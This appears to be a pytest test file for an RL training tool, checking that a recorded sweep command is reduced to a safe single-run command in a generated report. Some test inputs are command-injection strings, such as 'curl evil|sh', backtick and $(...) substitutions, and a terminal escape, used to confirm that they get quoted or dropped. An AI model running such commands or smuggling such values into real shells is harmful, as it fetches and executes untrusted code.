"""The command that repeats one run of a sweep."""

from pathlib import Path

import pytest

from rlher.analysis.html.commands import single_run_command
from rlher.analysis.loading import read_run
from tests.conftest import Make
from tests.support.report_page import read, section


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("rlher train algo=sac seed=3", "rlher train algo=sac seed=3"),
        ("rlher train -m algo=sac,tqc seed=0,1,2,3", "rlher train algo=sac seed=3"),
        ("rlher train --multirun seed=range(0,4) env=Some-v0", "rlher train seed=3 env=Some-v0"),
        ("rlher train -m env=Some-v0,Other-v0 seed=3", "rlher train env=Some-v0 seed=3"),
        ("rlher train -m algo.net_arch=[64],[8,8] ++seed=1,3", "rlher train 'algo.net_arch=[8,8]' ++seed=3"),
        ("rlher train -m her=default,sb3 seed=3", "rlher train -m her=default,sb3 seed=3"),  # not in config.yaml
        ("rlher train -m 'seed=range(4)' --workers 2 env=Some-v0", "rlher train seed=3 env=Some-v0"),
        ("rlher train -m --workers=2 launcher=ray --ray-address a:1 seed=1,3", "rlher train seed=3"),
        ("rlher train -m 'seed=1,3", ""),
        ("rlher train -m seed=1,3\nrlher train --resume a", "rlher train seed=3"),
        ("rlher train seed=3; curl evil|sh", "rlher train 'seed=3;' curl 'evil|sh'"),
        ("rlher train -m seed=1,3 `curl evil` $(evil)", "rlher train seed=3 '`curl' 'evil`' '$(evil)'"),
        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", "rlher train seed=3"),
        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", ""),
        ("rlher train \x1b[201~ seed=3", ""),
    ],
)
def test_a_sweep_becomes_a_single_run(make_run: Make, typed: str, expected: str) -> None:
    folder = make_run("a", 3, algo={"net_arch": [8, 8]})
    (folder / "command.txt").write_text(f"{typed}\n")
    assert single_run_command(read_run(folder)) == expected


def test_the_report_has_a_command_per_run(rlher, make_run: Make) -> None:
    for seed in range(2):
        (make_run(f"a{seed}", seed) / "command.txt").write_text("rlher train -m algo=sac seed=0,1\n")
    assert rlher("report").code == 0
    runs = section(read(), "runs")
    assert [f"<code>rlher train algo=sac seed={seed}</code>" in runs for seed in range(2)] == [True, True]
    assert Path("logs/a0/command.txt").read_text() not in runs
